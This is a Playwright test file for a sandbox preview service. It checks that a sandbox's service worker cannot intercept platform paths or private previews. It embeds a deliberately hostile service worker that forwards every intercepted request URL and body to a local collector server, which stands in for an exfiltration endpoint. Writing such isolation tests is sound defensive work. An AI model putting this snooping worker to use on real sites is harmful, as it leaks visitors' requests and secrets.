import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type Page } from '@playwright/test'
import { putSandbox } from '@sandlot/core/sandboxes/metadata/rest'
import { getSandbox, type SandboxRecord } from '@sandlot/core/sandboxes/rest'
import type { Person } from '../../support/people.ts'
import { makeSite, previewOf, writeTexts } from '../../support/previews.ts'
import { test } from '../../support/web-test.ts'

test.use({ serviceWorkers: 'allow' })

/** An outside server that records what it receives. */
async function startCollector() {
  const heard: string[] = []
  const server = createServer((request, response) => {
    let text = ''
    request.on('data', (part) => {
      text += part
    })
    request.on('end', () => {
      heard.push(text)
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}/`, heard, close: () => server.close() }
}

const ROUTED = '/__sandlot/license'

/** A worker that reports everything it sees, and answers everything itself. */
const worker = (collector: string) => `
self.addEventListener('install', (event) => {
  self.skipWaiting()
  event.waitUntil(caches.open('own').then((own) => own.put('${ROUTED}', new Response('From the worker'))))
  if (event.addRoutes) event.addRoutes({ condition: { urlPattern: '${ROUTED}' }, source: 'cache' })
})
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()))
self.addEventListener('fetch', (event) => {
  const copy = event.request.clone()
  event.respondWith((async () => {
    const text = event.request.url + ' ' + await copy.text().catch(() => '')
    await fetch('${collector}', { method: 'POST', mode: 'no-cors', body: text })
    return new Response('<h1>From the worker</h1>', { headers: { 'content-type': 'text/html' } })
  })())
})`

const PAGE = `<h1>Home</h1><script>
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => {
  const show = () => { document.body.dataset.worker = navigator.serviceWorker.controller ? 'on' : 'off' }
  navigator.serviceWorker.addEventListener('controllerchange', show)
  show()
})
</script>`

async function installWorker(page: Page, address: string): Promise<void> {
  await page.goto(address)
  await expect(page.locator('body')).toHaveAttribute('data-worker', 'on')
}

const registered = (page: Page) =>
  page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)

async function becomePrivate(me: Person, sandbox: SandboxRecord): Promise<void> {
  const params = { id: sandbox.id }
  await me.client.rest(putSandbox, { params, body: { sandbox: { privacy: 2 } } })
  await writeTexts(me, await me.client.rest(getSandbox, { params }), { 'index.html': '<h1>Only for us</h1>' })
}

test('a sandbox’s service worker handles its pages’ requests, but no documents, no paths of ours and nothing private', async ({
  page,
  me,
  world,
}) => {
  const collector = await startCollector()
  const sandbox = await makeSite(me, { 'index.html': PAGE, 'sw.js': worker(collector.url) })
  const address = previewOf(world, sandbox)
  await installWorker(page, address)
  const textOf = (path: string) =>
    page.evaluate(async (asked) => (await fetch(asked, { method: 'POST', body: 'secret' })).text(), path)
  expect(await textOf('/anything')).toContain('From the worker')
  expect(await textOf('/__sandlot/session')).not.toContain('From the worker')
  const routed = await page.evaluate(async (path) => (await fetch(path)).text(), ROUTED)
  expect(routed).toContain('Apache License')
  for (const path of ['/', '/__sandlot/frame/']) {
    const reply = await page.goto(address + path)
    expect(reply?.fromServiceWorker()).toBe(false)
    await expect(page.getByText('From the worker')).toBeHidden()
  }
  expect(collector.heard.map((text) => text.replace(address, ''))).toEqual(['/anything secret'])
  collector.heard.length = 0

  await test.step('a service worker from before gets nothing of a preview that became private', async () => {
    await becomePrivate(me, sandbox)
    await page.goto(address)
    await expect(page.getByRole('heading', { name: 'This preview is private.' })).toBeVisible()
    expect(await registered(page)).toBe(0)
    const opening = page.waitForEvent('popup')
    await page.getByRole('button', { name: 'Open the preview' }).click()
    await opening
    await expect(page.getByRole('heading', { name: 'Only for us' })).toBeVisible()
    expect(await registered(page)).toBe(0)
    expect(collector.heard.filter((text) => /secret|session|frame|files/.test(text))).toEqual([])
  })
  collector.close()
})
